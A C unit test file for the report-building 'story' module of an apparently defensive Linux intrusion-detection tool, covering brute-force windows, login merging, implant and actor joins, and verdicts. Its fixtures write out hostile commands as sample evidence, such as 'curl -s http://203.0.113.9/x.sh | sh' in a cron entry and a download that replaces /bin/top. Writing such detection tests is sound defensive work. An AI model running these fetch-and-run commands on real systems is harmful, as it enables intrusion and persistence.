/*
 * test_story.c - attack windows, joins and the verdict, fed through the
 * story's taps as the report would feed them
 */
#include <stdlib.h>
#include <string.h>

#include "story/story.h"
#include "unit.h"
#include "util/util.h"

/* 2026-11-20T10:00:00Z */
#define T0	((int64_t)1795687200)

static void
login(struct story *st, const char *user, const char *host, int64_t start,
    int64_t end, bool open)
{
	story_tap_record(&(struct record){ "login", (const struct field[]){
	    FSTR("user", user), FSTR("tty", "pts/0"), FSTR("host", host),
	    FTIME("start", start), FTIME("end", end),
	    FSTR("status", open ? "still logged in" : NULL),
	    FSTR("source", "/var/log/wtmp"), FEND } }, st);
}

static void
failed(struct story *st, const char *host, long n, int64_t first,
    int64_t last)
{
	story_tap_record(&(struct record){ "failed", (const struct field[]){
	    FSTR("from", host), FINT("attempts", n), FTIME("first", first),
	    FTIME("last", last), FSTR("users", "root,admin"), FEND } }, st);
}

static void
account(struct story *st, const char *user, long uid)
{
	story_tap_record(&(struct record){ "account", (const struct field[]){
	    FSTR("user", user), FINT("uid", uid), FEND } }, st);
}

static void
command(struct story *st, const char *text, int64_t t)
{
	story_tap_record(&(struct record){ "command", (const struct field[]){
	    FSTR("user", "root"), FTIME("time", t), FSTR("text", text),
	    FSTR("source", "/root/.bash_history"), FINT("line", 1),
	    FEND } }, st);
}

static void
find(struct story *st, enum check_id id, const char *path,
    const char *evidence, int64_t t)
{
	struct finding	fd = { id, check_def(id), { .path = path,
	    .evidence = evidence, .time = t } };

	story_tap_finding(&fd, st);
}

static const struct story_join *
join_of(const struct story *st, enum check_id id, const char *subject)
{
	size_t	i;

	for (i = 0; i < st->njoins; i++)
		if (st->joins[i].id == id &&
		    strcmp(st->joins[i].subject, subject) == 0)
			return &st->joins[i];
	return NULL;
}

static bool
has_ref(const struct story_join *j, const char *what)
{
	size_t	i;

	for (i = 0; i < j->nrefs; i++)
		if (strcmp(j->refs[i].what, what) == 0)
			return true;
	return false;
}

TEST(story_mentions_whole_tokens)
{
	const char	*v4 = "0123456789.-_abcdefghijklmnopqrstuvwxyz";

	ASSERT(story_mentions("curl http://203.0.113.9/x.sh", "203.0.113.9",
	    v4));
	ASSERT(story_mentions("203.0.113.9: 12 failed", "203.0.113.9", v4));
	ASSERT(!story_mentions("curl http://203.0.113.91/", "203.0.113.9",
	    v4));
	ASSERT(!story_mentions("from 1203.0.113.9", "203.0.113.9", v4));
	ASSERT(story_mentions("x 203.0.113.91 203.0.113.9", "203.0.113.9",
	    v4));
	ASSERT(!story_mentions(NULL, "a", v4));
	ASSERT(!story_mentions("abc", "", v4));
}

TEST(story_window_after_brute_force)
{
	struct story	*st = story_new();

	login(st, "alice", "198.51.100.1", T0 - 86400 * 30, T0 - 86400 * 30 +
	    600, false);
	failed(st, "203.0.113.9", 40, T0, T0 + 840);
	login(st, "root", "203.0.113.9", T0 + 850, TIME_NONE, true);
	story_build(st, TIME_NONE, TIME_NONE);
	ASSERT_INT(st->nwindows, 1);
	ASSERT_INT(st->windows[0].start, T0);
	ASSERT(st->windows[0].end >= T0 + 850);
	ASSERT(st->windows[0].open);
	ASSERT(strstr(st->windows[0].reason[0], "brute force") != NULL);
	/* alice's old session is no part of it */
	ASSERT(story_window_at(st, T0 - 86400 * 30) == NULL);
	/* a brute force that got in, nothing else: suspicious at most */
	ASSERT(st->verdict != STORY_CLEAN || st->nfindings == 0);
	story_free(st);
}

TEST(story_clean_server_no_window)
{
	struct story	*st = story_new();
	int		 i;

	account(st, "anna", 1000);
	for (i = 0; i < 10; i++)
		login(st, "anna", "198.51.100.7", T0 + i * 86400, T0 + i *
		    86400 + 3600, false);
	failed(st, "192.0.2.50", 2, T0, T0 + 10);
	find(st, CHECK_LOGINS_PRIVILEGED_REMOTE, NULL,
	    "198.51.100.7: 10 logins as anna", T0);
	story_build(st, TIME_NONE, TIME_NONE);
	ASSERT_INT(st->nwindows, 0);
	ASSERT_INT(st->njoins, 0);
	ASSERT_INT(st->verdict, STORY_CLEAN);
	ASSERT(st->nfacts >= 1 && st->nfacts <= STORY_MAX_FACTS);
	ASSERT_STR(story_verdict_name(st->verdict), "clean");
	story_free(st);
}

TEST(story_window_since_until_override)
{
	struct story	*st = story_new();

	failed(st, "203.0.113.9", 40, T0, T0 + 840);
	login(st, "root", "203.0.113.9", T0 + 850, T0 + 900, false);
	story_build(st, T0 - 5, T0 + 5);
	ASSERT_INT(st->nwindows, 1);
	ASSERT(st->windows[0].given);
	ASSERT_INT(st->windows[0].start, T0 - 5);
	ASSERT_INT(st->windows[0].end, T0 + 5);
	story_free(st);
}

TEST(story_windows_merge_close_high_findings)
{
	struct story	*st = story_new();

	failed(st, "203.0.113.9", 40, T0, T0 + 840);
	login(st, "root", "203.0.113.9", T0 + 850, T0 + 900, false);
	find(st, CHECK_BIN_DROPPED_ELF, "/tmp/.x/a", "elf", T0 + 3600);
	find(st, CHECK_BIN_DROPPED_ELF, "/tmp/.x/b", "elf", T0 + 10 * 3600);
	story_build(st, TIME_NONE, TIME_NONE);
	ASSERT_INT(st->nwindows, 2);
	ASSERT_INT(st->windows[0].start, T0);
	ASSERT_INT(st->windows[0].end, T0 + 3600);
	ASSERT_INT(st->windows[1].start, T0 + 10 * 3600);
	ASSERT_INT(st->verdict, STORY_COMPROMISED);
	story_free(st);
}

TEST(story_join_implant_started_by_a_unit)
{
	struct story			*st = story_new();
	const struct story_join		*j;

	failed(st, "203.0.113.9", 40, T0, T0 + 840);
	login(st, "root", "203.0.113.9", T0 + 850, TIME_NONE, true);
	find(st, CHECK_BIN_DROPPED_ELF, "/var/lib/.q/agent", "x86_64 exec",
	    T0 + 900);
	find(st, CHECK_UNIT_TEMP_EXEC, "/etc/systemd/system/q.service",
	    "/var/lib/.q/agent --daemon", T0 + 950);
	/* a longer name that only starts the same is another file */
	find(st, CHECK_CRON_TEMP_EXEC, "/etc/crontab", "/var/lib/.q/agent2",
	    T0 + 950);
	story_build(st, TIME_NONE, TIME_NONE);
	j = join_of(st, CHECK_STORY_IMPLANT, "/var/lib/.q/agent");
	ASSERT(j != NULL);
	ASSERT_INT(j->nrefs, 2);
	ASSERT(has_ref(j, "binaries.dropped_elf"));
	ASSERT(has_ref(j, "unit.temp_exec"));
	ASSERT(!has_ref(j, "cron.temp_exec"));
	ASSERT(j->in_window);
	ASSERT(strstr(j->detail, "started by /etc/systemd/system/q.service") !=
	    NULL);
	ASSERT(strstr(j->detail, "no package installed it") != NULL);
	ASSERT_INT(st->verdict, STORY_COMPROMISED);
	story_free(st);
}

TEST(story_join_implant_merged_usr)
{
	struct story			*st = story_new();
	const struct story_join		*j;

	find(st, CHECK_PKG_MODIFIED_BINARY, "/usr/bin/top", "md5 differs",
	    T0);
	find(st, CHECK_HISTORY_FETCH_RAW_IP, "/root/.bash_history",
	    "curl http://192.0.2.1/t -o /bin/top", T0 - 5);
	story_build(st, TIME_NONE, TIME_NONE);
	j = join_of(st, CHECK_STORY_IMPLANT, "/usr/bin/top");
	ASSERT(j != NULL);
	ASSERT(has_ref(j, "history.fetch_raw_ip"));
	story_free(st);
}

TEST(story_join_single_flag_is_not_joined)
{
	struct story	*st = story_new();

	find(st, CHECK_BIN_DROPPED_ELF, "/tmp/.x/a", "elf", TIME_NONE);
	story_build(st, TIME_NONE, TIME_NONE);
	ASSERT_INT(st->njoins, 0);
	ASSERT_INT(st->verdict, STORY_COMPROMISED);
	story_free(st);
}

/* wtmp's session, sshd's line and lastlog name one login: counted once */
TEST(story_same_login_from_three_sources)
{
	struct story	*st = story_new();
	size_t		 i;

	story_tap_record(&(struct record){ "ssh_login", (const struct field[]){
	    FSTR("user", "root"), FSTR("from", "203.0.113.9"),
	    FTIME("time", T0), FSTR("source", "/var/log/auth.log"),
	    FEND } }, st);
	login(st, "root", "203.0.113.9", T0 + 1, TIME_NONE, true);
	story_tap_record(&(struct record){ "lastlog", (const struct field[]){
	    FSTR("user", "root"), FSTR("host", "203.0.113.9"),
	    FTIME("time", T0), FEND } }, st);
	/* another user in the same second, the same user 5 s later,
	 * the same user from another address: three more logins */
	login(st, "alice", "203.0.113.9", T0, T0 + 60, false);
	login(st, "root", "203.0.113.9", T0 + 5, T0 + 60, false);
	login(st, "root", "198.51.100.1", T0, T0 + 60, false);
	story_merge_logins(st);
	ASSERT_INT(st->nlogins, 4);
	for (i = 0; i < st->nlogins; i++)
		if (strcmp(st->logins[i].user, "root") == 0 &&
		    strcmp(st->logins[i].host, "203.0.113.9") == 0 &&
		    st->logins[i].start <= T0 + 1)
			break;
	ASSERT(i < st->nlogins);
	ASSERT_STR(st->logins[i].tty, "pts/0");
	ASSERT_STR(st->logins[i].source, "/var/log/wtmp");
	ASSERT(st->logins[i].open);
	story_merge_logins(st);
	ASSERT_INT(st->nlogins, 4);
	story_free(st);
}

TEST(story_join_actor)
{
	struct story			*st = story_new();
	const struct story_join		*j;

	login(st, "root", "203.0.113.9", T0, TIME_NONE, true);
	find(st, CHECK_CRON_DROPPER, "/var/spool/cron/crontabs/root",
	    "curl -s http://203.0.113.9/x.sh | sh", T0 + 60);
	find(st, CHECK_HISTORY_FETCH_RAW_IP, "/root/.bash_history",
	    "wget http://203.0.113.9/y", T0 + 30);
	/* another address, named once: no actor */
	find(st, CHECK_HISTORY_FETCH_RAW_IP, "/root/.bash_history",
	    "wget http://192.0.2.44/z", T0 + 40);
	story_build(st, TIME_NONE, TIME_NONE);
	j = join_of(st, CHECK_STORY_ACTOR, "203.0.113.9");
	ASSERT(j != NULL);
	ASSERT(has_ref(j, "login"));
	ASSERT(has_ref(j, "cron.dropper"));
	ASSERT(has_ref(j, "history.fetch_raw_ip"));
	ASSERT(join_of(st, CHECK_STORY_ACTOR, "192.0.2.44") == NULL);
	ASSERT(join_of(st, CHECK_STORY_ACTOR_SEEN, "192.0.2.44") == NULL);
	story_free(st);
}

TEST(story_join_account)
{
	struct story			*st = story_new();
	const struct story_join		*j;

	account(st, "root", 0);
	account(st, "svc", 0);
	account(st, "svcx", 1001);
	failed(st, "203.0.113.9", 40, T0, T0 + 840);
	login(st, "root", "203.0.113.9", T0 + 850, TIME_NONE, true);
	find(st, CHECK_ACCOUNTS_UID0_ALIAS, "/etc/passwd",
	    "svc:x:0:0::/root:/bin/bash", TIME_NONE);
	login(st, "svc", "192.0.2.5", T0 + 1200, T0 + 1300, false);
	story_build(st, TIME_NONE, TIME_NONE);
	j = join_of(st, CHECK_STORY_ACCOUNT, "svc");
	ASSERT(j != NULL);
	ASSERT(has_ref(j, "accounts.uid0_alias"));
	ASSERT(has_ref(j, "login"));
	ASSERT(join_of(st, CHECK_STORY_ACCOUNT, "svcx") == NULL);
	ASSERT(join_of(st, CHECK_STORY_ACCOUNT, "root") == NULL);
	story_free(st);
}

TEST(story_verdict_suspicious_on_medium)
{
	struct story	*st = story_new();

	find(st, CHECK_HISTORY_FETCH_RAW_IP, "/root/.bash_history",
	    "curl http://192.0.2.1/a", T0);
	story_build(st, TIME_NONE, TIME_NONE);
	ASSERT_INT(st->verdict, STORY_SUSPICIOUS);
	ASSERT(st->nfacts >= 1);
	ASSERT(st->nsteps >= 1);
	ASSERT(strstr(st->steps[0], "rescue export") != NULL);
	story_free(st);
}

TEST(story_events_in_order_files_once)
{
	struct story		*st = story_new();
	struct story_event	*ev;
	size_t			 n, more;

	failed(st, "203.0.113.9", 40, T0, T0 + 840);
	login(st, "root", "203.0.113.9", T0 + 850, TIME_NONE, true);
	command(st, "id", T0 + 860);
	command(st, "ancient", T0 - 86400);
	find(st, CHECK_BIN_DROPPED_ELF, "/tmp/.x/a", "elf", T0 + 900);
	find(st, CHECK_BIN_MINER, "/tmp/.x/a", "xmrig", T0 + 900);
	story_build(st, TIME_NONE, TIME_NONE);
	ASSERT_INT(st->nwindows, 1);
	ev = story_events(st, &st->windows[0], &n, &more);
	ASSERT_INT(n, 4);
	ASSERT_INT(more, 0);
	ASSERT_INT(ev[0].kind, STORY_EV_FAILED);
	ASSERT_INT(ev[1].kind, STORY_EV_LOGIN);
	ASSERT_INT(ev[2].kind, STORY_EV_COMMAND);
	ASSERT_STR(ev[2].what, "id");
	ASSERT_INT(ev[3].kind, STORY_EV_FILE);
	free(ev);
	story_free(st);
}

TEST(story_caps_bound_memory)
{
	struct story	*st = story_new();
	size_t		 i;

	for (i = 0; i < STORY_MAX_FINDINGS + 10; i++)
		find(st, CHECK_HISTORY_FETCH_RAW_IP, "/root/.bash_history",
		    "curl http://192.0.2.1/a", T0 + (int64_t)i);
	ASSERT_INT(st->nfindings, STORY_MAX_FINDINGS);
	ASSERT_INT(st->dropped, 10);
	story_file_change(st, "relative/path", T0, "created");
	story_file_change(st, "/abs", TIME_NONE, "created");
	ASSERT_INT(st->nfiles, 0);
	story_file_change(st, "/abs", T0, NULL);
	ASSERT_INT(st->nfiles, 1);
	ASSERT_STR(st->files[0].what, "changed");
	story_free(st);
}
